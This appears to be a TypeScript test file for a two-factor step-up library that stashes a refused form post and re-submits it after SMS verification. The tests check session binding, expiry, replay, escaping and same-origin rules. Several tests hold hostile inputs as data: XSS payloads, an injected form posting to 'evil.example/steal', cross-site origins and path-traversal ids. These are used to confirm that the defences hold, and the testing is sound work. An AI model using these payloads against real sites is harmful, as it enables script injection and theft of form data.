import request from 'supertest';
import { createFormHostApp, FORM_HOST_USERS, type FormHost } from '../helpers/formHostApp';
import { fakeClock, type FakeClock } from '../helpers/fakeClock';

/**
 * Issue 15.3: a guarded form POST from a browser is stashed when the step-up is asked for, and
 * after the step-up a confirmation page re-submits it (once) with a fresh CSRF token. Attacker
 * cases first: other sessions, stale cookies, replays, hostile values, odd paths, cross-site posts.
 */
const HTML = 'text/html,application/xhtml+xml';
const SAME_ORIGIN = { 'sec-fetch-site': 'same-origin' };
const CONTINUE_PATH = /^\/auth\/2fa\/continue\/[A-Za-z0-9_-]{22}$/;

type Agent = ReturnType<typeof request.agent>;
type User = (typeof FORM_HOST_USERS)[keyof typeof FORM_HOST_USERS];

const csrfOf = (html: string) => /name="_csrf" value="([^"]+)"/.exec(html)?.[1] ?? '';
const decode = (s: string) =>
  s.replace(/&(#(\d+)|#x([0-9a-f]+)|amp|lt|gt|quot|apos);/gi, (m, _e, dec, hex) =>
    dec ? String.fromCharCode(Number(dec)) : hex ? String.fromCharCode(parseInt(hex, 16)) : ({ '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&apos;': "'" } as Record<string, string>)[m.toLowerCase()] ?? m,
  );

/** The form a page posts, read as a browser would: its action and its hidden inputs in order. */
function formOf(html: string): { action: string; method: string; fields: [string, string][] } {
  const form = /<form method="(\w+)" action="([^"]*)"[^>]*>([\s\S]*?)<\/form>/i.exec(html);
  if (!form) throw new Error(`no form in the page:\n${html}`);
  const fields: [string, string][] = [];
  for (const input of (form[3] as string).matchAll(/<input type="hidden" name="([^"]*)" value="([^"]*)">/g)) {
    fields.push([decode(input[1] as string), decode(input[2] as string)]);
  }
  return { method: (form[1] as string).toUpperCase(), action: decode(form[2] as string), fields };
}

describe('guarded forms continue after the step-up', () => {
  let host: FormHost;
  let clock: FakeClock;
  beforeEach(async () => {
    clock = fakeClock();
    host = await createFormHostApp({ clock });
  });

  async function signIn(user: User = FORM_HOST_USERS.alice): Promise<{ agent: Agent; csrf: string }> {
    const agent = request.agent(host.app);
    const first = (await agent.get('/auth/2fa/csrf').expect(200)).body.csrfToken as string;
    const login = await agent.post('/login').set('accept', 'application/json').set('x-csrf-token', first).send({ username: user.username, password: user.password }).expect(200);
    return { agent, csrf: login.body.csrfToken as string };
  }

  /** A browser submitting a form: urlencoded, HTML accepted, same-origin fetch metadata. */
  const submit = (agent: Agent, path: string, csrf: string, fields: [string, string][], headers: Record<string, string> = SAME_ORIGIN) =>
    agent.post(path).set('accept', HTML).set(headers).type('form').send(new URLSearchParams([['_csrf', csrf], ...fields]).toString());

  /** The SMS step-up through stepguard's pages; the answer's Location is where the browser goes next. */
  async function stepUpBySms(agent: Agent): Promise<string> {
    const choose = await agent.get('/auth/2fa').set('accept', HTML).expect(200);
    await agent.post('/auth/2fa/sms/send').set('accept', HTML).type('form').send({ _csrf: csrfOf(choose.text) }).expect(303);
    const codePage = await agent.get('/auth/2fa/sms').set('accept', HTML).expect(200);
    const done = await agent.post('/auth/2fa/sms/verify').set('accept', HTML).type('form').send({ _csrf: csrfOf(codePage.text), code: host.sms.lastCode() }).expect(303);
    return done.headers.location as string;
  }

  /** Confirms on the continue page: posts its form exactly as the page holds it. */
  const confirm = (agent: Agent, html: string) => {
    const form = formOf(html);
    return agent.post(form.action).set('accept', HTML).set(SAME_ORIGIN).type('form').send(new URLSearchParams(form.fields).toString());
  };

  const SETTINGS: [string, string][] = [
    ['displayName', 'Alice A.'],
    ['bio', 'line one\r\nline two'],
    ['currentPassword', 'hunter2-correct-horse'],
    ['topics', 'news'],
    ['topics', 'security'],
  ];

  it('re-submits the original fields to the original path after the SMS step-up, with a fresh CSRF token', async () => {
    const { agent, csrf } = await signIn();
    const refused = await submit(agent, '/settings?tab=profile', csrf, SETTINGS).expect(303);
    expect(refused.headers.location).toBe('/auth/2fa');
    expect(host.received).toHaveLength(0);
    const next = await stepUpBySms(agent);
    expect(next).toMatch(CONTINUE_PATH);
    const page = await agent.get(next).set('accept', HTML).expect(200);
    const form = formOf(page.text);
    expect(form).toMatchObject({ method: 'POST', action: '/settings?tab=profile' });
    const token = form.fields.find(([name]) => name === '_csrf')?.[1];
    expect(token).toBeTruthy();
    expect(token).not.toBe(csrf);
    expect(form.fields.filter(([name]) => name !== '_csrf')).toEqual(SETTINGS);
    // What will be sent is listed, secrets aside: the password is in the form, never shown.
    expect(page.text).toContain('Alice A.');
    expect(page.text.split('hunter2-correct-horse')).toHaveLength(2);
    expect(page.text).not.toMatch(/<(dd|td|li)[^>]*>[^<]*hunter2/);
    await confirm(agent, page.text).expect(200);
    expect(host.received).toEqual([
      { route: 'settings', method: 'POST', body: { _csrf: token, displayName: 'Alice A.', bio: 'line one\r\nline two', currentPassword: 'hunter2-correct-horse', topics: ['news', 'security'] } },
    ]);
  });

  it('renders the continue page once: a second visit is 410 and submits nothing', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, SETTINGS).expect(303);
    const next = await stepUpBySms(agent);
    const page = await agent.get(next).set('accept', HTML).expect(200);
    const again = await agent.get(next).set('accept', HTML).expect(410);
    expect(again.text).toContain('That request expired');
    expect(again.text).not.toContain('Alice A.');
    expect(host.received).toHaveLength(0);
    await confirm(agent, page.text).expect(200);
    await agent.get(next).set('accept', HTML).expect(410);
    expect(host.received).toHaveLength(1);
  });

  it('expires 5 minutes after the form was refused', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, SETTINGS).expect(303);
    clock.advanceSeconds(200);
    const next = await stepUpBySms(agent);
    expect(next).toMatch(CONTINUE_PATH);
    clock.advanceSeconds(101);
    const expired = await agent.get(next).set('accept', HTML).expect(410);
    expect(expired.text).toContain('That request expired — please submit it again');
    expect(expired.text).not.toContain('Alice A.');
    expect(host.received).toHaveLength(0);
  });

  it('another user\'s session cannot open it, and trying does not use it up', async () => {
    const alice = await signIn(FORM_HOST_USERS.alice);
    await submit(alice.agent, '/settings', alice.csrf, SETTINGS).expect(303);
    const next = await stepUpBySms(alice.agent);
    const bob = await signIn(FORM_HOST_USERS.bob);
    await submit(bob.agent, '/settings', bob.csrf, [['displayName', 'Bob']]).expect(303);
    await stepUpBySms(bob.agent);
    const stolen = await bob.agent.get(next).set('accept', HTML).expect(410);
    expect(stolen.text).not.toContain('Alice A.');
    expect(stolen.text).not.toContain('hunter2');
    await alice.agent.get(next).set('accept', HTML).expect(200);
    expect(host.received).toHaveLength(0);
  });

  it('a copy of the cookie from before the logout (or before the step-up) cannot open it', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, SETTINGS).expect(303);
    const beforeStepUp = agent.jar.getCookie('connect.sid', { domain: '127.0.0.1', path: '/', secure: false, script: false })?.value;
    const next = await stepUpBySms(agent);
    const beforeLogout = agent.jar.getCookie('connect.sid', { domain: '127.0.0.1', path: '/', secure: false, script: false })?.value;
    expect(beforeLogout).toBeTruthy();
    expect(beforeStepUp).not.toBe(beforeLogout);
    await agent.post('/logout').set('x-csrf-token', csrfOf((await agent.get('/settings')).text)).expect(200);
    for (const cookie of [beforeStepUp, beforeLogout]) {
      const res = await request(host.app).get(next).set('accept', HTML).set('cookie', `connect.sid=${cookie}`);
      expect(res.status).not.toBe(200);
      expect(res.text).not.toContain('Alice A.');
      expect(res.text).not.toContain('hunter2');
    }
    expect(host.received).toHaveLength(0);
  });

  it('JSON clients keep the 401 + retry contract and nothing is stashed for them', async () => {
    const { agent, csrf } = await signIn();
    const challenge = await agent.post('/settings').set('accept', 'application/json').set('x-csrf-token', csrf).send({ displayName: 'Alice A.' }).expect(401);
    expect(challenge.body.error.code).toBe('insufficient_user_authentication');
    expect(challenge.headers['www-authenticate']).toContain('insufficient_user_authentication');
    // A JSON body from a page that accepts HTML is not a form: redirected as before, never stashed.
    await agent.post('/settings').set('accept', HTML).set(SAME_ORIGIN).set('x-csrf-token', csrf).send({ displayName: 'Alice A.' }).expect(303);
    expect(await stepUpBySms(agent)).toBe('/');
    expect(host.received).toHaveLength(0);
  });

  it('escapes hostile names and values on the page and re-submits them byte for byte', async () => {
    const { agent, csrf } = await signIn();
    const hostile: [string, string][] = [
      ['displayName', '"><script>alert(1)</script>'],
      ['x"><img src=x onerror=alert(2)>', '</form><form method="post" action="//evil.example/steal">'],
      ['bio', "&amp; &lt;b&gt; ' \" `"],
    ];
    await submit(agent, '/settings', csrf, hostile).expect(303);
    const page = await agent.get(await stepUpBySms(agent)).set('accept', HTML).expect(200);
    expect(page.text).not.toContain('<script>alert(1)');
    expect(page.text).not.toContain('<img src=x');
    expect(page.text).not.toContain('action="//evil.example');
    expect(page.text.match(/<form /g)).toHaveLength(1);
    await confirm(agent, page.text).expect(200);
    const { _csrf, ...body } = host.received[0]?.body ?? {};
    expect(body).toEqual(Object.fromEntries(hostile));
  });

  it('does not stash more than 8 KiB of fields, or too many fields: the step-up ends as before', async () => {
    for (const fields of [
      [['bio', 'x'.repeat(8 * 1024 + 1)]],
      Array.from({ length: 101 }, (_, i): [string, string] => [`f${i}`, 'v']),
    ] as [string, string][][]) {
      const { agent, csrf } = await signIn();
      await submit(agent, '/settings', csrf, fields).expect(303);
      expect(await stepUpBySms(agent)).toBe('/');
    }
    // Just under the limit still continues.
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, [['bio', 'x'.repeat(7 * 1024)]]).expect(303);
    expect(await stepUpBySms(agent)).toMatch(CONTINUE_PATH);
  });

  it('stashes only same-origin form posts: a cross-site post or one without fetch metadata is not continued', async () => {
    const crossSite: Record<string, string>[] = [{ 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }, { origin: 'https://evil.example' }, { origin: 'null' }, {}];
    for (const headers of crossSite) {
      const { agent, csrf } = await signIn();
      await submit(agent, '/settings', csrf, SETTINGS, headers).expect(303);
      expect(await stepUpBySms(agent)).toBe('/');
    }
    // The Origin header alone (no Sec-Fetch-Site) is enough when it is this site.
    const { agent, csrf } = await signIn();
    const origin = `http://127.0.0.1`;
    await agent.post('/settings').set('accept', HTML).set('origin', origin).set('host', '127.0.0.1').type('form').send({ _csrf: csrf, displayName: 'x' }).expect(303);
    expect(await stepUpBySms(agent)).toMatch(CONTINUE_PATH);
  });

  it('stashes only a same-origin path: a request path that a browser would read as another host is not continued', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '//evil.example/wild', csrf, [['displayName', 'x']]).expect(303);
    expect(await stepUpBySms(agent)).toBe('/');
    const other = await signIn();
    await submit(other.agent, '/a/wild', other.csrf, [['displayName', 'x']]).expect(303);
    const page = await other.agent.get(await stepUpBySms(other.agent)).set('accept', HTML).expect(200);
    expect(formOf(page.text).action).toBe('/a/wild');
  });

  it('a newer refused form replaces the older one', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, [['displayName', 'First']]).expect(303);
    await submit(agent, '/settings', csrf, [['displayName', 'Second']]).expect(303);
    const page = await agent.get(await stepUpBySms(agent)).set('accept', HTML).expect(200);
    expect(page.text).toContain('Second');
    expect(page.text).not.toContain('First');
  });

  it('refuses unknown and malformed continue ids with a clear page, without using up the real one', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, SETTINGS).expect(303);
    const next = await stepUpBySms(agent);
    for (const id of ['AAAAAAAAAAAAAAAAAAAAAA', '..%2F..%2Fetc', 'x'.repeat(300), '%3Cscript%3E']) {
      const res = await agent.get(`/auth/2fa/continue/${id}`).set('accept', HTML);
      expect(res.status).toBe(410);
      expect(res.text).toContain('That request expired');
      expect(res.text).not.toContain('<script>');
    }
    await agent.head(next).expect(204);
    const json = await agent.get('/auth/2fa/continue/AAAAAAAAAAAAAAAAAAAAAA').set('accept', 'application/json').expect(410);
    expect(json.body.error.code).toBe('continue_expired');
    await agent.get(next).set('accept', HTML).expect(200);
  });

  it('fills the host\'s own CSRF field from forms.csrfToken, and never keeps the old token', async () => {
    host = await createFormHostApp({ clock, guardOptions: { forms: { csrfField: 'authenticity_token', csrfToken: async (req) => `host-token-for-${(req.user as { id: string }).id}` } } });
    const { agent, csrf } = await signIn();
    await submit(agent, '/settings', csrf, [['authenticity_token', 'old-host-token'], ['displayName', 'Alice A.']]).expect(303);
    const page = await agent.get(await stepUpBySms(agent)).set('accept', HTML).expect(200);
    expect(page.text).not.toContain('old-host-token');
    expect(formOf(page.text).fields).toEqual([
      ['authenticity_token', 'host-token-for-u-alice'],
      // The field stepguard's own check reads is the host's business here: kept like any other.
      ['_csrf', csrf],
      ['displayName', 'Alice A.'],
    ]);
  });

  it('transaction-bound: the page says Confirm with the transaction, and the approval is used once', async () => {
    const { agent, csrf } = await signIn();
    await submit(agent, '/payments', csrf, [['amount', '25.00'], ['payee', 'Carol <Ltd>']]).expect(303);
    const next = await stepUpBySms(agent);
    expect(host.sms.messages.at(-1)?.body).toContain('25.00');
    const page = await agent.get(next).set('accept', HTML).expect(200);
    expect(page.text).toMatch(/<button type="submit"[^>]*>\s*Confirm\s*<\/button>/);
    expect(page.text).toMatch(/<dd><strong>Carol &(lt|#60);Ltd&(gt|#62);<\/strong><\/dd>/);
    expect(page.text).not.toContain('Carol <Ltd>');
    expect(page.text).toContain('25.00');
    await confirm(agent, page.text).expect(200);
    // Submitting the same page again needs a new approval: the step-up is asked for again.
    const replay = await confirm(agent, page.text);
    expect(replay.status).toBe(303);
    expect(host.received).toEqual([{ route: 'payments', method: 'POST', body: expect.objectContaining({ amount: '25.00', payee: 'Carol <Ltd>' }) }]);
  });
});
